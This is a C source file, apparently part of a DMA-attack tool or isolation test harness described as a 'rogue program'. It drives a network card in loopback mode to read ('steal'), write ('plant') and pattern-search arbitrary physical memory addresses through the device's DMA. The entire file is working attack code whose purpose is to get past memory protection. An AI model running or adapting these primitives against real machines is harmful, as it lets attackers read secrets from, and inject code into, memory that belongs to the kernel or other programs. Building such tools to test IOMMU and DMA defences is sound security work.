// SPDX-License-Identifier: GPL-2.0-only
/*
 * Session commands of the rogue program. It never touches memory that is not its own: it has the NIC do it. A frame "at"
 * an address that the NIC sends to itself is that memory read; a frame received "at" an address is that memory written.
 */
#define _GNU_SOURCE
#include "session.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Shorter frames would be padded; longer ones need the NIC's leave. */
#define FRAME_MIN 60
#define FRAME_MAX 1500
/* By which an emulated NIC has sent a frame to itself, on a busy host. */
#define DEADLINE_MS 200

static bool ready(struct session *session, const char *command)
{
	registers_t registers = session->device.registers;

	if (!session->dma.memory) {
		answer_usage("%s: dma first", command);
		return false;
	}
	reg_write(registers, RCTL, reg_read(registers, RCTL) | RCTL_LBM_MAC);
	return true;
}

/* The frame that came in, or -1. */
static int receive(struct session *session, uint8_t *frame)
{
	const struct nic *nic = session->device.nic;
	int64_t deadline = now_ms() + DEADLINE_MS;
	int length;

	while ((length = dma_receive(&session->dma, nic, session->device.registers, frame)) < 0 && now_ms() < deadline)
		usleep(1000);
	return length;
}

/* Has the NIC read memory; -1: it did not get it, and a NIC that was refused once may be stuck. */
static int read_by_dma(struct session *session, uint64_t address, uint16_t length, uint8_t *bytes)
{
	dma_queue(&session->dma, session->device.nic, address, length);
	dma_kick(&session->dma, session->device.nic, session->device.registers);
	return receive(session, bytes);
}

static void cmd_steal(struct session *session, int argc, char **argv)
{
	uint8_t bytes[BUFFER_BYTES];
	int64_t address, length;
	int got;

	(void)argc;
	if (!number_in(argv[0], 0, INT64_MAX, &address) || !number_in(argv[1], FRAME_MIN, FRAME_MAX, &length) ||
	    !ready(session, "steal"))
		return;
	got = read_by_dma(session, address, length, bytes);
	if (got == length)
		answer_ok("\"done\":true,\"bytes\":\"%s\"", as_hex(bytes, got));
	else
		answer_ok("\"done\":false");
}

static void cmd_plant(struct session *session, int argc, char **argv)
{
	const struct nic *nic = session->device.nic;
	uint8_t bytes[FRAME_MAX], ignored[BUFFER_BYTES];
	int length = parse_hex(argv[1], bytes, sizeof(bytes));
	int64_t address;

	(void)argc;
	if (!number_in(argv[0], 0, INT64_MAX, &address))
		return;
	if (length < FRAME_MIN) {
		answer_usage("plant: %d to %d bytes in hexadecimal", FRAME_MIN, FRAME_MAX);
		return;
	}
	if (!ready(session, "plant"))
		return;
	dma_aim(&session->dma, address);
	dma_send(&session->dma, nic, session->device.registers, bytes, length);
	answer_ok("\"done\":%s", receive(session, ignored) == length ? "true" : "false");
}

/* Where in [from, to) `wanted` is, -1: not there. A frame that the NIC refuses to take is a hole: they are counted. */
static int64_t search(struct session *session, int64_t from, int64_t to, const uint8_t *wanted, int length, int *holes)
{
	uint8_t bytes[BUFFER_BYTES], *hit;

	for (int64_t at = from; at + FRAME_MIN <= to; at += FRAME_MAX - length) {
		int64_t room = to - at < FRAME_MAX ? to - at : FRAME_MAX;
		int got = read_by_dma(session, at, room, bytes);

		hit = got < 0 ? NULL : memmem(bytes, got, wanted, length);
		if (hit)
			return at + (hit - bytes);
		*holes += got < 0;
		if (got < 0 && at == from)
			return -1;
	}
	return -1;
}

static void cmd_search(struct session *session, int argc, char **argv)
{
	uint8_t wanted[FRAME_MIN * 4];
	int length = parse_hex(argv[2], wanted, sizeof(wanted)), holes = 0;
	int64_t from, to, found;

	(void)argc;
	if (!number_in(argv[0], 0, INT64_MAX, &from) || !number_in(argv[1], from + FRAME_MIN, INT64_MAX, &to))
		return;
	if (length <= 0) {
		answer_usage("search: 1 to %zu bytes in hexadecimal", sizeof(wanted));
		return;
	}
	if (!ready(session, "search"))
		return;
	found = search(session, from, to, wanted, length, &holes);
	if (found < 0)
		answer_ok("\"found\":false,\"holes\":%d", holes);
	else
		answer_ok("\"found\":true,\"address\":\"0x%llx\",\"holes\":%d", (long long)found, holes);
}

static const struct command list[] = {
	{ "steal", "ADDRESS LENGTH", 2, 2, true, cmd_steal },
	{ "plant", "ADDRESS HEX", 2, 2, true, cmd_plant },
	{ "search", "FROM TO HEX", 3, 3, true, cmd_search },
};
const struct commands rogue_commands = { list, ARRAY_SIZE(list) };
